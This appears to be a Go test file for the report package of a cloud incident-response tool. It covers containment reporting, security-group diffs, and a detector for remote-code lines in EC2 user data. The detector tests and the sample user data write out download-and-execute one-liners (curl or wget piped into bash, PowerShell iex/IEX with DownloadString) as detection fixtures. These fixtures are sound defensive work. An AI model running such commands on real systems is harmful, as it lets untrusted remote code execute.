package report

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"

	"github.com/responder-ir/responder/responder/evidence"
	steps "github.com/responder-ir/responder/responder/step"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// sampleArchive tars and gzips testdata/volatile (a Linux volatile data
// collection: collection/...), deterministically.
func sampleArchive(t *testing.T) []byte {
	t.Helper()
	var names []string
	root := filepath.Join("testdata", "volatile")
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			names = append(names, p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(names)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, p := range names {
		body, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		rel, _ := filepath.Rel(root, p)
		hdr := &tar.Header{Name: filepath.ToSlash(rel), Mode: 0o600, Size: int64(len(body)), ModTime: t0, Typeflag: tar.TypeReg}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const sampleUserData = `#!/bin/bash
yum install -y httpd
curl -fsSL https://get.example.net/agent.sh | sudo bash -s -- --token abc
systemctl enable --now httpd
`

func sampleMetadata(t *testing.T, m *evidence.Manifest) []byte {
	t.Helper()
	perm := func(proto string, from, to int32, cidr string) types.IpPermission {
		return types.IpPermission{IpProtocol: aws.String(proto), FromPort: aws.Int32(from), ToPort: aws.Int32(to), IpRanges: []types.IpRange{{CidrIp: aws.String(cidr)}}}
	}
	all := types.IpPermission{IpProtocol: aws.String("-1"), IpRanges: []types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}}
	doc := steps.InstanceMetadata{CaseID: m.CaseID, AccountID: m.AccountID, Region: m.Region,
		Instance: types.Instance{InstanceId: aws.String(m.InstanceID)},
		SecurityGroups: []types.SecurityGroup{
			{GroupId: aws.String("sg-0web0000000000001"), GroupName: aws.String("web-public"),
				IpPermissions: []types.IpPermission{perm("tcp", 443, 443, "0.0.0.0/0"), perm("tcp", 80, 80, "0.0.0.0/0")}, IpPermissionsEgress: []types.IpPermission{all}},
			{GroupId: aws.String("sg-0ssh0000000000002"), GroupName: aws.String("admin-ssh"),
				IpPermissions: []types.IpPermission{perm("tcp", 22, 22, "0.0.0.0/0")}, IpPermissionsEgress: []types.IpPermission{all}},
		},
		ProfileAssociations: []types.IamInstanceProfileAssociation{{AssociationId: aws.String("iip-assoc-0123"),
			IamInstanceProfile: &types.IamInstanceProfile{Arn: aws.String("arn:aws:iam::111122223333:instance-profile/web-server")}}},
		UserDataBase64: base64.StdEncoding.EncodeToString([]byte(sampleUserData)),
		UserData:       sampleUserData,
	}
	b, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// at is a step of a run, from and to milliseconds after the run's start.
func at(run int, name, phase, status string, from, to int, before, after string) evidence.StepRecord {
	s := step(run, name, phase, status, before, after)
	base := t0.Add(time.Duration(run-1) * time.Hour)
	s.StartedAt, s.EndedAt = base.Add(time.Duration(from)*time.Millisecond), base.Add(time.Duration(to)*time.Millisecond)
	return s
}

func contain(s evidence.StepRecord, check string) evidence.StepRecord {
	s.Containment = check
	if s.Status == evidence.StatusFailed {
		s.Error = "disassociate iip-assoc-0123: UnauthorizedOperation: not authorized"
	}
	return s
}

// richCase is a case of two respond runs: the first left the instance
// profile attached (partially contained), the second removed it and
// collected volatile data. It holds metadata (groups with rules, user data
// that pipes a download into bash) and a volatile data archive.
func richCase(t *testing.T) (*memStore, *evidence.Manifest) {
	t.Helper()
	ctx := context.Background()
	s := newMemStore()
	m := baseManifest()
	m.CaseID = "case-rich"
	m.Runs[0].Status = evidence.CasePartiallyContained
	m.Runs[0].EndedAt = t0.Add(900 * time.Millisecond)
	m.Runs[1].EndedAt = t0.Add(time.Hour + 2500*time.Millisecond)
	m.Runs[1].Playbook = "collect"
	m.EndedAt = m.Runs[1].EndedAt
	vpc, eni := "vpc-0aaa0000000000001", "eni-0bbb0000000000001"
	quarantine := `[{"vpc_id":"` + vpc + `","group_id":"sg-0qqq0000000000009","created":true}]`
	m.Steps = []evidence.StepRecord{
		at(1, "metadata", "acquire", "ok", 0, 120, "", `{"volumes":1}`),
		at(1, "snapshots", "acquire", "ok", 0, 310, "", ""),
		at(1, "quarantine-group", "contain", "ok", 0, 150, `[{"vpc_id":"`+vpc+`"}]`, quarantine),
		contain(at(1, "quarantine", "contain", "ok", 310, 420,
			`{"interfaces":[{"network_interface_id":"`+eni+`","vpc_id":"`+vpc+`","groups":["sg-0web0000000000001","sg-0ssh0000000000002"]}]}`,
			`{"interfaces":[{"network_interface_id":"`+eni+`","vpc_id":"`+vpc+`","groups":["sg-0qqq0000000000009"]}]}`), evidence.ContainmentHeld),
		contain(at(1, "instance-profile", "contain", "failed", 310, 380,
			`{"associations":[{"association_id":"iip-assoc-0123","instance_profile_arn":"arn:aws:iam::111122223333:instance-profile/web-server","state":"associated"}]}`, ""), evidence.ContainmentNotHeld),
		contain(at(1, "credential-revocation", "contain", "ok", 120, 460,
			`{"instance_profile_arn":"arn:aws:iam::111122223333:instance-profile/web-server","role":"web-server","role_arn":"arn:aws:iam::111122223333:role/web-server","policy_name":"responder-revoke-case-rich",`+
				`"role_inline_policies":["read-config"],"role_managed_policies":["arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"],"role_policies_listed":true}`,
			`{"role":"web-server","policy_name":"responder-revoke-case-rich","document":"{}"}`), evidence.ContainmentHeld),
		at(1, "case-tag", "report", "ok", 460, 520, "", ""),
		contain(at(2, "quarantine", "contain", "skipped", 50, 90,
			`{"interfaces":[{"network_interface_id":"`+eni+`","vpc_id":"`+vpc+`","groups":["sg-0qqq0000000000009"]}]}`, ""), evidence.ContainmentHeld),
		contain(at(2, "instance-profile", "contain", "ok", 50, 140,
			`{"associations":[{"association_id":"iip-assoc-0123","instance_profile_arn":"arn:aws:iam::111122223333:instance-profile/web-server","state":"associated"}]}`,
			`{"associations":[]}`), evidence.ContainmentHeld),
		contain(at(2, "credential-revocation", "contain", "skipped", 50, 100, `{"role":"web-server","role_arn":"arn:aws:iam::111122223333:role/web-server","policy_name":"responder-revoke-case-rich","document":"{}"}`, ""), evidence.ContainmentHeld),
		at(2, "volatile-data", "collect", "ok", 200, 2400, "", `{"command":{}}`),
	}
	m.Steps[len(m.Steps)-1].Reason = "Responder-LinuxVolatileData version 3: 14 sections (0 failed)"
	put := func(path, step string, body []byte, when time.Time) {
		if _, err := s.Put(ctx, m.CaseID, path, body, ""); err != nil {
			t.Fatal(err)
		}
		m.Artifacts = append(m.Artifacts, evidence.Artifact{Path: path, SHA256: evidence.SHA256(body), Size: int64(len(body)),
			ContentType: "application/json", CollectedAt: when, Step: step})
	}
	put(m.InstanceID+"/metadata.json", "metadata", sampleMetadata(t, m), t0.Add(120*time.Millisecond))
	put(m.InstanceID+"/volatile/run-002/volatile-data.tar.gz", "volatile-data", sampleArchive(t), t0.Add(time.Hour+2400*time.Millisecond))
	if err := s.SaveManifest(ctx, m); err != nil {
		t.Fatal(err)
	}
	return s, m
}

func buildRich(t *testing.T) *Report {
	t.Helper()
	s, m := richCase(t)
	r, err := Build(context.Background(), s, m.CaseID, Options{Now: func() time.Time { return t0.Add(2 * time.Hour) }, Tool: "responder test"})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func reportGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -update writes it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test ./responder/report -update rewrites it); got:\n%s", name, got)
	}
}

// The same facts in the three forms, each against its golden file.
func TestRichReportGolden(t *testing.T) {
	r := buildRich(t)
	for _, format := range Formats {
		var buf bytes.Buffer
		if err := Render(&buf, format, r); err != nil {
			t.Fatal(err)
		}
		reportGolden(t, "rich."+format+".golden", buf.Bytes())
	}
}

func TestHeadline(t *testing.T) {
	r := buildRich(t)
	h := r.Headline
	if !h.Isolated || h.IsolationRun != 2 || h.IsolatedAt == nil || !h.IsolatedAt.Equal(t0.Add(time.Hour+140*time.Millisecond)) ||
		time.Duration(h.TimeToIsolation) != 140*time.Millisecond {
		t.Errorf("isolation %+v; want run 2, 140ms after its start", h)
	}
	if p := r.Profile; p.Role != "web-server" || !p.PoliciesKnown || strings.Join(p.Policies, "; ") !=
		"read-config (inline); AmazonS3ReadOnlyAccess (managed: arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess)" || p.After != "none" {
		t.Errorf("profile %+v", p)
	}
	if len(h.Open) != 0 || h.EvidenceCount != 2 || h.EvidenceBytes != r.Evidence[0].Size+r.Evidence[1].Size {
		t.Errorf("open %v, evidence %d/%d", h.Open, h.EvidenceCount, h.EvidenceBytes)
	}
	if h.Verification != NotVerified || !strings.Contains(h.VerificationDetail, "responder verify --case-id case-rich") {
		t.Errorf("verification %q: %s", h.Verification, h.VerificationDetail)
	}

	// Without the second run: partially contained, the profile still open,
	// in the words the CLI uses.
	s, m := richCase(t)
	m.Runs, m.Status = m.Runs[:1], evidence.CasePartiallyContained
	m.Steps = slices.DeleteFunc(m.Steps, func(s evidence.StepRecord) bool { return s.Run == 2 })
	if err := s.SaveManifest(context.Background(), m); err != nil {
		t.Fatal(err)
	}
	passed := &Verification{Result: "verified", Detail: "every artifact re-hashed", At: t0}
	r2, err := Build(context.Background(), s, m.CaseID, Options{Now: func() time.Time { return t0 }, Verification: passed})
	if err != nil {
		t.Fatal(err)
	}
	h = r2.Headline
	want := "instance-profile (not-held): disassociate iip-assoc-0123: UnauthorizedOperation: not authorized"
	if h.Isolated || h.IsolatedAt != nil || len(h.Open) != 1 || h.Open[0] != want {
		t.Errorf("open %q, isolated %v; want [%s]", h.Open, h.Isolated, want)
	}
	if h.Verification != Verified || r2.Chart[0].IsolatedAt != nil {
		t.Errorf("verification %q, chart isolation %v", h.Verification, r2.Chart[0].IsolatedAt)
	}
	for _, v := range []*Verification{{Result: "failed", At: t0}, {Result: "intact-unsigned", At: t0}} {
		r3, _ := Build(context.Background(), s, m.CaseID, Options{Verification: v})
		if r3.Headline.Verification == Verified {
			t.Errorf("%s reported as verified", v.Result)
		}
	}
}

func TestChartLanesAndIsolation(t *testing.T) {
	r := buildRich(t)
	if len(r.Chart) != 2 || r.Chart[0].Run != 1 || r.Chart[1].Run != 2 {
		t.Fatalf("chart runs %+v", r.Chart)
	}
	var lanes []string
	for _, b := range r.Chart[1].Bars {
		lanes = append(lanes, b.Lane+":"+b.Step)
	}
	want := "containment:quarantine containment:instance-profile containment:credential-revocation collection:volatile-data"
	if strings.Join(lanes, " ") != want {
		t.Errorf("run 2 bars %s, want %s", strings.Join(lanes, " "), want)
	}
	if r.Chart[1].IsolatedAt == nil || r.Chart[0].IsolatedAt != nil {
		t.Error("the isolation moment is not on run 2 alone")
	}
	var html bytes.Buffer
	if err := HTML(&html, r); err != nil {
		t.Fatal(err)
	}
	page := html.String()
	if strings.Count(page, `<svg class="chart"`) != 2 || !strings.Contains(page, "isolated +140ms (read back)") {
		t.Error("the HTML lacks a chart per run or the isolation label")
	}
}

func TestSecurityGroupDiff(t *testing.T) {
	web := GroupRules{ID: "sg-1", Name: "web", RulesKnown: true, Rules: []string{"inbound 443/tcp from 0.0.0.0/0", "outbound all traffic to 0.0.0.0/0"}}
	ssh := GroupRules{ID: "sg-2", Name: "ssh", RulesKnown: true, Rules: []string{"inbound 22/tcp from 0.0.0.0/0", "outbound all traffic to 0.0.0.0/0"}}
	quarantine := GroupRules{ID: "sg-q", RulesKnown: true, Rules: []string{}}
	forensic := GroupRules{ID: "sg-f", RulesKnown: true, Rules: []string{"outbound 443/tcp to 10.0.0.5/32"}}
	for _, tc := range []struct {
		name          string
		before, after []GroupRules
		want          []string
	}{
		{"into the quarantine group", []GroupRules{web, ssh}, []GroupRules{quarantine},
			[]string{"inbound 443/tcp from 0.0.0.0/0 removed", "outbound all traffic to 0.0.0.0/0 removed", "inbound 22/tcp from 0.0.0.0/0 removed"}},
		{"into the forensic access group", []GroupRules{ssh}, []GroupRules{forensic},
			[]string{"inbound 22/tcp from 0.0.0.0/0 removed", "outbound all traffic to 0.0.0.0/0 removed", "outbound 443/tcp to 10.0.0.5/32 added"}},
		{"one group of two removed", []GroupRules{web, ssh}, []GroupRules{web}, []string{"inbound 22/tcp from 0.0.0.0/0 removed"}},
		{"unchanged", []GroupRules{web}, []GroupRules{web}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, c := range diffRules(tc.before, tc.after) {
				got = append(got, c.String())
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	for _, tc := range []struct {
		perm types.IpPermission
		want []string
	}{
		{types.IpPermission{IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22), IpRanges: []types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}, Ipv6Ranges: []types.Ipv6Range{{CidrIpv6: aws.String("::/0")}}},
			[]string{"inbound 22/tcp from 0.0.0.0/0", "inbound 22/tcp from ::/0"}},
		{types.IpPermission{IpProtocol: aws.String("udp"), FromPort: aws.Int32(1024), ToPort: aws.Int32(65000), UserIdGroupPairs: []types.UserIdGroupPair{{GroupId: aws.String("sg-9")}}},
			[]string{"inbound 1024-65000/udp from group sg-9"}},
		{types.IpPermission{IpProtocol: aws.String("icmp"), FromPort: aws.Int32(-1), ToPort: aws.Int32(-1), PrefixListIds: []types.PrefixListId{{PrefixListId: aws.String("pl-1")}}},
			[]string{"inbound all icmp from prefix list pl-1"}},
		{types.IpPermission{IpProtocol: aws.String("-1"), IpRanges: []types.IpRange{{CidrIp: aws.String("10.0.0.0/8")}}},
			[]string{"inbound all traffic from 10.0.0.0/8"}},
	} {
		if got := ruleTexts(true, []types.IpPermission{tc.perm}); !slices.Equal(got, tc.want) {
			t.Errorf("rule %+v: got %q, want %q", tc.perm, got, tc.want)
		}
	}

	// From the record: the groups of before by name with their rules (from
	// the metadata artifact), the quarantine group after.
	r := buildRich(t)
	if len(r.SecurityGroups.Interfaces) != 1 {
		t.Fatalf("interfaces %+v", r.SecurityGroups.Interfaces)
	}
	i := r.SecurityGroups.Interfaces[0]
	if len(i.Before) != 2 || i.Before[1].Name != "admin-ssh" || len(i.After) != 1 || i.After[0].Name != "responder-quarantine-vpc-0aaa0000000000001" || !i.After[0].RulesKnown {
		t.Fatalf("groups %+v -> %+v", i.Before, i.After)
	}
	var changes []string
	for _, c := range i.Changes {
		changes = append(changes, c.String())
	}
	if !slices.Contains(changes, "inbound 22/tcp from 0.0.0.0/0 removed") || len(changes) != 4 {
		t.Errorf("changes %q", changes)
	}
}

func TestRemoteCodeLines(t *testing.T) {
	for _, tc := range []struct {
		script string
		lines  []int
	}{
		{"curl -fsSL https://x.example/i.sh | bash", []int{1}},
		{"curl -s http://1.2.3.4/a | sudo -E sh -s -- -y", []int{1}},
		{"wget -qO- http://x.example/s | /bin/sh", []int{1}},
		{"wget -O - http://x.example/s.py | python3", []int{1}},
		{`bash <(curl -s https://x.example/i.sh)`, []int{1}},
		{`sh -c "$(curl -fsSL https://x.example/install.sh)"`, []int{1}},
		{`eval "$(wget -qO- http://x.example/e)"`, []int{1}},
		{". <(curl -s http://x.example/env)", []int{1}},
		{"aws s3 cp s3://bucket/boot.sh - | bash", []int{1}},
		{"iex (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", []int{1}},
		{"Invoke-WebRequest -Uri http://x.example/a.ps1 -UseBasicParsing | Invoke-Expression", []int{1}},
		{"IWR http://x.example/a | IEX", []int{1}},
		{"curl -o /tmp/agent https://x.example/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon", []int{2, 3}},
		{"wget -O /opt/run.sh http://x.example/run.sh\nbash /opt/run.sh", []int{2}},
		{"aws s3 cp s3://b/setup.sh /tmp/setup.sh\nchmod 755 /tmp/setup.sh", []int{2}},
		{"#include\nhttps://x.example/cloud-config.txt", []int{1}},
		// Not remote code.
		{"curl -fsSL https://x.example/health", nil},
		{"curl -o /tmp/data.json https://x.example/d\nchmod 644 /tmp/data.json\ncat /tmp/data.json", nil},
		{"yum install -y httpd\nsystemctl start httpd", nil},
		{"# curl http://x | bash (a comment)", nil},
		{"echo hello | bash", nil},
		{"wget http://x.example/archive.tgz && tar xzf archive.tgz", nil},
	} {
		var got []int
		for _, rc := range RemoteCodeLines(tc.script) {
			got = append(got, rc.Line)
		}
		if !slices.Equal(got, tc.lines) {
			t.Errorf("%q: lines %v, want %v", tc.script, got, tc.lines)
		}
	}
}

func TestUserData(t *testing.T) {
	r := buildRich(t)
	u := r.UserData
	if u.Status != UserDataShown || u.Text != sampleUserData || len(u.RemoteCode) != 1 || u.RemoteCode[0].Line != 3 {
		t.Fatalf("user data %+v", u)
	}
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = zw.Write([]byte("#!/bin/sh\nwget -qO- http://x | sh\n"))
	_ = zw.Close()
	meta := &steps.InstanceMetadata{UserDataBase64: base64.StdEncoding.EncodeToString(gz.Bytes())}
	if u := buildUserData(meta, nil); u.Status != UserDataShown || len(u.RemoteCode) != 1 || !strings.Contains(u.Detail, "gunzipped") {
		t.Errorf("gzip user data %+v", u)
	}
	if u := buildUserData(&steps.InstanceMetadata{}, nil); u.Status != UserDataEmpty {
		t.Errorf("no user data: %+v", u)
	}
	if u := buildUserData(nil, nil); u.Status != UserDataNotCollected {
		t.Errorf("no metadata: %+v", u)
	}
}

func TestIndicatorsFromSampleArchive(t *testing.T) {
	archive := sampleArchive(t)
	src := Source{Path: "i-1/volatile/run-001/volatile-data.tar.gz", SHA256: evidence.SHA256(archive)}
	in := IndicatorsFromArchive(archive, src)
	if in.Status != IndicatorsFound {
		t.Fatalf("status %s: %s", in.Status, in.Detail)
	}
	var listening, outbound, users, cron []string
	for _, s := range in.Listening {
		listening = append(listening, s.Protocol+" "+s.Local+" "+strings.Join(s.Processes, ","))
		if s.Source.Path != src.Path || s.Source.SHA256 != src.SHA256 || s.Source.Member != "collection/sockets.json" {
			t.Errorf("listening socket source %+v", s.Source)
		}
	}
	for _, s := range in.Outbound {
		outbound = append(outbound, s.Remote+" "+s.State+" "+strings.Join(s.Processes, ","))
	}
	for _, u := range in.Users {
		users = append(users, u.Name+":"+u.Why)
	}
	for _, c := range in.Cron {
		cron = append(cron, c.File+":"+c.RemoteCode)
		if c.Source.Member != "collection/files"+c.File {
			t.Errorf("cron source %+v", c.Source)
		}
	}
	check := func(what string, got, want []string) {
		t.Helper()
		if !slices.Equal(got, want) {
			t.Errorf("%s:\n got %q\nwant %q", what, got, want)
		}
	}
	check("listening", listening, []string{"tcp 0.0.0.0:22 sshd (pid 812)", "tcp 127.0.0.1:6379 redis-server (pid 901)",
		"tcp [::]:4444 kworker-upd (pid 2211)", "udp 10.0.1.15:68 dhclient (pid 500)"})
	check("outbound", outbound, []string{"198.51.100.23:443 ESTABLISHED kworker-upd (pid 2211)", "192.0.2.77:6667 SYN_SENT sh (pid 2212)"})
	check("users", users, []string{"root:", "ubuntu:", "sysupdate:UID 0 (root's powers) under another name; empty password"})
	check("cron", cron, []string{"/etc/cron.d/sysupdate:pipes a download into an interpreter", "/etc/crontab:",
		"/var/spool/cron/crontabs/www-data:"})
	if len(in.Notes) != 1 || !strings.Contains(in.Notes[0], "/etc/passwd was last modified") {
		t.Errorf("notes %q", in.Notes)
	}

	// Not collected, and an archive that does not match its record.
	s, m := richCase(t)
	m.Artifacts = m.Artifacts[:1]
	if in := volatileIndicators(context.Background(), s, m); in.Status != IndicatorsNotCollected || !strings.Contains(in.Detail, "not collected") {
		t.Errorf("no archive: %+v", in)
	}
	s, m = richCase(t)
	s.files[m.CaseID+"/"+m.Artifacts[1].Path] = []byte("tampered")
	if in := volatileIndicators(context.Background(), s, m); in.Status != IndicatorsUnreadable || len(in.Listening) != 0 || !strings.Contains(in.Detail, "does NOT match") {
		t.Errorf("tampered archive: %+v", in)
	}
	// A collection that failed: what arrived is shown, with the doubt first.
	s, m = richCase(t)
	m.Steps[len(m.Steps)-1].Status, m.Steps[len(m.Steps)-1].Error = evidence.StatusFailed, "archive SHA-256: the instance reported x"
	m.Artifacts[1].ReportedSHA256 = strings.Repeat("0", 64)
	if in := volatileIndicators(context.Background(), s, m); in.Status != IndicatorsFound || len(in.Notes) < 2 ||
		!strings.Contains(in.Notes[0], "the instance reported SHA-256 000") || !strings.Contains(in.Notes[1], "step volatile-data FAILED in run 2") {
		t.Errorf("failed collection: %q", in.Notes)
	}
	if in := IndicatorsFromArchive([]byte("not gzip"), src); in.Status != IndicatorsUnreadable {
		t.Errorf("not an archive: %+v", in)
	}
}

func TestBreakable(t *testing.T) {
	hash := strings.Repeat("0123abcd", 8)
	for _, tc := range []struct{ in, want string }{
		{"i-0abc/volatile/run-001/report.json", "i-<wbr>0abc/<wbr>volatile/<wbr>run-<wbr>001/<wbr>report.<wbr>json"},
		{"i-0123456789abcdef0", "i-0123456789abcdef0"},
		{hash, strings.TrimSuffix(strings.Repeat("0123abcd<wbr>", 8), "<wbr>")},
		{"<b>&x" + strings.Repeat("y", 30), "&lt;b&gt;&amp;<wbr>x" + strings.Repeat("y", 30)},
		{"abcdef", "abcdef"},
	} {
		if got := string(breakable(tc.in)); got != tc.want {
			t.Errorf("breakable(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
